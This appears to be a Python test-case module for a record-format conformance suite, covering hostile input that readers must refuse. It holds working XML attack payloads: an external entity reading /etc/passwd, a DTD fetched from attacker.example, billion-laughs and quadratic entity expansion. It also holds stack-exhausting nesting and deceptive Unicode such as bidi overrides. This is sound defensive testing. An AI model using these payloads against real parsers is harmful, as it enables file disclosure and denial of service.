"""Cases of area HOS: input made to harm or to deceive the program that reads it."""

from __future__ import annotations

from any_xml import any_tree_to_xml
from making import REFUSED, Case, Json, json_bytes

from definitions.bases import MID, OTHER_NAME, PLAIN, SITE

JSON = json_bytes(dict(PLAIN))
XML = any_tree_to_xml(dict(PLAIN)).encode()
HEAD = b'<?xml version="1.0" encoding="UTF-8"?>\n'
PERSIAN = "\u0646\u0645\u0648\u0646\u0647\u200c\u0647\u0627"
SINHALA = "\u0dc1\u0dca\u200d\u0dbb\u0dd3"


def with_doctype(declaration: bytes, *, name: bytes = b"") -> bytes:
    """Return the plain record with a document type declaration and, if given, a legal name."""
    text = XML.replace(HEAD, HEAD + declaration + b"\n")
    return text.replace(b"Example Trading Limited", name) if name else text


def of_length(text: bytes, length: int) -> bytes:
    """Return a text whose record is padded to a length by white space that is no data."""
    body = text.rstrip()
    is_xml = body.endswith(b">")
    start = body.index(b"<AeoRecord") if is_xml else 0
    end = body.rindex(b"</AeoRecord>" if is_xml else b"}")
    return body[:end] + b" " * (length - (len(body) - start)) + body[end:]


def after_comment(length: int) -> bytes:
    """Return the plain record in XML with so many bytes before its root."""
    padding = b"x" * (length - len(HEAD) - len(b"<!---->\n"))
    return XML.replace(HEAD, HEAD + b"<!--" + padding + b"-->\n")


def deep_json(levels: int) -> bytes:
    """Return the plain record with a member that nests lists."""
    return JSON.replace(b"{\n", b'{\n  "deep": ' + b"[" * levels + b"]" * levels + b",\n", 1)


def deep_xml(levels: int) -> bytes:
    """Return the plain record with an element that nests elements."""
    return XML.replace(b"</AeoRecord>", b"<A>" * levels + b"</A>" * levels + b"</AeoRecord>")


def named(text: str) -> tuple[str, Json]:
    """Return the edit that gives the holder one other name."""
    return ("/holder/otherNames", [{**OTHER_NAME, "text": text}])


LAUGHS = b"".join(
    b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 10)
)
DOCTYPE_ONLY_XML = "JSON has no document type declaration."

CASES: tuple[Case, ...] = (
    Case(
        id="AEO-HOS-01.p01",
        title="The word DOCTYPE in a comment and in a text",
        why=f"Only a declaration is refused. {DOCTYPE_ONLY_XML}",
        flags=("Doctype",),
        base=PLAIN,
        inputs={
            "xml": XML.replace(HEAD, HEAD + b"<!-- <!DOCTYPE AeoRecord> -->\n").replace(
                b"Example Trading Limited", b"<![CDATA[<!DOCTYPE AeoRecord>]]>"
            )
        },
    ),
    Case(
        id="AEO-HOS-01.n01",
        title="A declaration that declares nothing",
        why=f"A reader that skips the empty one must judge which ones are. {DOCTYPE_ONLY_XML}",
        flags=("Doctype",),
        base=PLAIN,
        inputs={"xml": with_doctype(b"<!DOCTYPE AeoRecord>")},
        finds=(REFUSED,),
    ),
    Case(
        id="AEO-HOS-01.n02",
        title="An internal entity as legal name",
        why=f"The text would depend on whether entities are resolved. {DOCTYPE_ONLY_XML}",
        flags=("Doctype", "InternalEntity"),
        base=PLAIN,
        inputs={
            "xml": with_doctype(
                b'<!DOCTYPE AeoRecord [<!ENTITY n "Example Trading Limited">]>', name=b"&n;"
            )
        },
        finds=(REFUSED,),
    ),
    Case(
        id="AEO-HOS-01.n03",
        title="An external entity that reads a local file",
        why=f"The content of the file would travel in the record. {DOCTYPE_ONLY_XML}",
        flags=("Doctype", "ExternalEntity"),
        base=PLAIN,
        inputs={
            "xml": with_doctype(
                b'<!DOCTYPE AeoRecord [<!ENTITY n SYSTEM "file:///etc/passwd">]>', name=b"&n;"
            )
        },
        finds=(REFUSED,),
    ),
    Case(
        id="AEO-HOS-01.n04",
        title="Ten to the ninth laughs",
        why=f"Nine entities that name each other ten times grow to gigabytes. {DOCTYPE_ONLY_XML}",
        flags=("Doctype", "BillionLaughs"),
        base=PLAIN,
        inputs={
            "xml": with_doctype(
                b'<!DOCTYPE AeoRecord [<!ENTITY l0 "ha">' + LAUGHS + b"]>", name=b"&l9;"
            )
        },
        finds=(REFUSED,),
    ),
    Case(
        id="AEO-HOS-01.n05",
        title="An external subset on another host",
        why=f"A reader that fetches it tells the host who reads the record. {DOCTYPE_ONLY_XML}",
        flags=("Doctype", "ExternalSubset"),
        base=PLAIN,
        inputs={
            "xml": with_doctype(b'<!DOCTYPE AeoRecord SYSTEM "http://attacker.example/evil.dtd">')
        },
        finds=(REFUSED,),
    ),
    Case(
        id="AEO-HOS-01.n06",
        title="A parameter entity, and a default attribute that nobody sees",
        why=f"The declaration changes the document without a reference. {DOCTYPE_ONLY_XML}",
        flags=("Doctype", "ParameterEntity"),
        base=PLAIN,
        inputs={
            "xml": with_doctype(
                b"<!DOCTYPE AeoRecord [<!ENTITY % p \"<!ATTLIST Holder id CDATA 'x'>\"> %p;]>"
            )
        },
        finds=(REFUSED,),
    ),
    Case(
        id="AEO-HOS-01.n07",
        title="A quadratic blow-up",
        why=f"One entity of 10 000 characters named 1 000 times needs no nesting. "
        f"{DOCTYPE_ONLY_XML}",
        flags=("Doctype", "QuadraticBlowup"),
        base=PLAIN,
        inputs={
            "xml": with_doctype(
                b'<!DOCTYPE AeoRecord [<!ENTITY a "' + b"a" * 10_000 + b'">]>', name=b"&a;" * 1000
            )
        },
        finds=(REFUSED,),
    ),
    Case(
        id="AEO-HOS-02.p01",
        title="The deepest record that the standard allows",
        why="An identifier of a site is as deep as it gets.",
        flags=("Depth", "EdgeValue"),
        base=PLAIN,
        edits=(("/holder/sites", [{**SITE, "identifiers": [{"scheme": "MID", "value": MID}]}]),),
    ),
    Case(
        id="AEO-HOS-02.n01",
        title="A member that nests 300 levels",
        why="More than 200 must be refused; an unknown item is not walked to its end first.",
        flags=("Depth",),
        base=PLAIN,
        inputs={"json": deep_json(300), "xml": deep_xml(300)},
        finds=(REFUSED,),
    ),
    Case(
        id="AEO-HOS-02.n02",
        title="A member that nests 20 000 levels",
        why="A reader that calls itself for each level runs out of stack.",
        flags=("Depth", "StackOverflow"),
        base=PLAIN,
        inputs={"json": deep_json(20_000), "xml": deep_xml(20_000)},
        finds=(REFUSED,),
    ),
    Case(
        id="AEO-HOS-02.n03",
        title="200 000 brackets that are never closed",
        why="The fault must be seen on the way down, long before the end that never comes. "
        "XML would need larger files.",
        flags=("Depth", "StackOverflow", "Truncated"),
        base=PLAIN,
        inputs={"json": b"[" * 200_000},
        finds=(REFUSED,),
    ),
    Case(
        id="AEO-HOS-02.n04",
        title="250 groups nested in a text item",
        why="Depth is counted wherever it grows, also where a text belongs.",
        flags=("Depth",),
        base=PLAIN,
        inputs={
            "json": JSON.replace(b'"Example Trading Limited"', b'{"a":' * 250 + b"1" + b"}" * 250),
            "xml": XML.replace(b"Example Trading Limited", b"<A>" * 250 + b"1" + b"</A>" * 250),
        },
        finds=(REFUSED,),
    ),
    Case(
        id="AEO-HOS-03.p01",
        title="A record of 262 144 bytes",
        why="Every reader must accept that much, also where nearly all of it is white space.",
        flags=("Size", "EdgeValue"),
        base=PLAIN,
        inputs={"json": of_length(JSON, 262_144), "xml": of_length(XML, 262_144)},
    ),
    Case(
        id="AEO-HOS-03.p02",
        title="4 096 bytes before the root element",
        why="Every reader must accept that much. JSON has nothing before the record.",
        flags=("Size", "EdgeValue"),
        base=PLAIN,
        inputs={"xml": after_comment(4096)},
    ),
    Case(
        id="AEO-HOS-03.n01",
        title="70 000 bytes before the root element",
        why="A root that does not come is not waited for. JSON has nothing before the record.",
        flags=("Size", "Prolog"),
        base=PLAIN,
        inputs={"xml": after_comment(70_000)},
        finds=(REFUSED,),
    ),
    Case(
        id="AEO-HOS-03.n02",
        title="A number of 5 000 digits",
        why="Turning digits into a number takes time that grows with their square.",
        flags=("Size", "HugeNumber"),
        base=PLAIN,
        inputs={
            "json": JSON.replace(b'"revision": 3', b'"revision": ' + b"9" * 5000),
            "xml": XML.replace(b"<Revision>3<", b"<Revision>" + b"9" * 5000 + b"<"),
        },
        finds=(REFUSED,),
        allow=("AEO-STR-07",),
    ),
    Case(
        id="AEO-HOS-03.n03",
        title="A number of 100 000 digits in an item that nobody knows",
        why="Digits are counted wherever they stand. In XML they would be a text.",
        flags=("Size", "HugeNumber", "UnknownItem"),
        base=PLAIN,
        inputs={"json": JSON.replace(b"{\n", b'{\n  "a": ' + b"-1" + b"0" * 100_000 + b",\n", 1)},
        finds=(REFUSED,),
        allow=("AEO-STR-02",),
    ),
    Case(
        id="AEO-HOS-04.p01",
        title="Joiners in Persian and Sinhala",
        why="U+200C and U+200D shape letters there and are allowed.",
        flags=("Invisible", "EdgeValue"),
        base=PLAIN,
        edits=(
            (
                "/holder/otherNames",
                [
                    {"text": PERSIAN, "language": "fa", "script": "Arab", "use": "local"},
                    {"text": SINHALA, "language": "si", "script": "Sinh", "use": "local"},
                ],
            ),
        ),
    ),
    Case(
        id="AEO-HOS-04.n01",
        title="A name turned round by a bidirectional override",
        why="It reads as another name on every screen.",
        flags=("Invisible", "Bidi"),
        base=PLAIN,
        edits=(("/holder/legalName", "Example \u202edetimiL"),),
        finds=("/holder/legalName",),
    ),
    Case(
        id="AEO-HOS-04.n02",
        title="A zero width space in a name",
        why="It is a format character; two names that look alike differ.",
        flags=("Invisible", "ZeroWidth"),
        base=PLAIN,
        edits=(named("Exam\u200bple"),),
        finds=("/holder/otherNames/0/text",),
    ),
    Case(
        id="AEO-HOS-04.n03",
        title="Noncharacters of the first and of the second plane",
        why="They are for use inside programs and never for exchange.",
        flags=("Invisible", "Noncharacter"),
        base=PLAIN,
        edits=(named("Example\ufdd0"), ("/holder/address/city", "Example\U0001fffe")),
        finds=("/holder/otherNames/0/text", "/holder/address/city"),
        allow=("AEO-HOS-06",),
    ),
    Case(
        id="AEO-HOS-04.n04",
        title="Isolates, a soft hyphen, a byte order mark and a tag inside texts",
        why="Every format character but the joiners is refused, in every text.",
        flags=("Invisible", "Bidi"),
        base=PLAIN,
        edits=(
            named("\u2066Example\u2069"),
            ("/holder/address/city", "Exam\u00adple"),
            ("/history/0/reason", "Good\ufeff"),
            ("/authorisation/terms/0/nationalRole", "Exporter\U000e0041"),
        ),
        finds=(
            "/holder/otherNames/0/text",
            "/holder/address/city",
            "/authorisation/terms/0/nationalRole",
            "/history/0/reason",
        ),
    ),
    Case(
        id="AEO-HOS-05.p01",
        title="Composed letters, and a mark that composes with nothing",
        why="Form C keeps a mark for which there is no composed letter.",
        flags=("Normalisation", "EdgeValue"),
        base=PLAIN,
        edits=(named("Caf\u00e9 M\u0302 \uac01"),),
    ),
    Case(
        id="AEO-HOS-05.n01",
        title="A letter and a mark that have a composed form",
        why="The name looks like the composed one and has another digest.",
        flags=("Normalisation",),
        base=PLAIN,
        edits=(("/holder/legalName", "Cafe\u0301 Example"),),
        finds=("/holder/legalName",),
    ),
    Case(
        id="AEO-HOS-05.n02",
        title="A sign that normalisation replaces",
        why="The Angstrom sign becomes a letter; no mark is there to be seen.",
        flags=("Normalisation", "Singleton"),
        base=PLAIN,
        edits=(named("\u212bngstrom"),),
        finds=("/holder/otherNames/0/text",),
    ),
    Case(
        id="AEO-HOS-05.n03",
        title="A syllable of Hangul in parts, and marks in the wrong order",
        why="Normalisation joins the one and sorts the others.",
        flags=("Normalisation", "Hangul"),
        base=PLAIN,
        edits=(
            named("\u1100\u1161\u11a8"),
            ("/holder/address/city", "Q\u0307\u0323 City"),
        ),
        finds=("/holder/otherNames/0/text", "/holder/address/city"),
    ),
    Case(
        id="AEO-HOS-06.p01",
        title="An emoji and a letter of an old script",
        why="Both have been assigned for long, outside the first plane.",
        flags=("Unassigned", "Astral"),
        base=PLAIN,
        edits=(named("\U0001f69a \U00010330"),),
    ),
    Case(
        id="AEO-HOS-06.n01",
        title="A character of a plane that is empty",
        why="It may become anything; a newer Unicode may know it, so this is a warning.",
        flags=("Unassigned", "Astral"),
        base=PLAIN,
        edits=(named("Example \U00050000"),),
        finds=("/holder/otherNames/0/text",),
    ),
    Case(
        id="AEO-HOS-06.n02",
        title="A gap in the block of Greek",
        why="A block that is known has places that are not assigned.",
        flags=("Unassigned",),
        base=PLAIN,
        edits=(("/holder/address/city", "Example \u0378"),),
        finds=("/holder/address/city",),
    ),
    Case(
        id="AEO-HOS-06.n03",
        title="A character for private use",
        why="It means what two parties agreed on, and nothing to a third.",
        flags=("Unassigned", "PrivateUse"),
        base=PLAIN,
        edits=(named("Example \ue000"),),
        finds=("/holder/otherNames/0/text",),
    ),
)
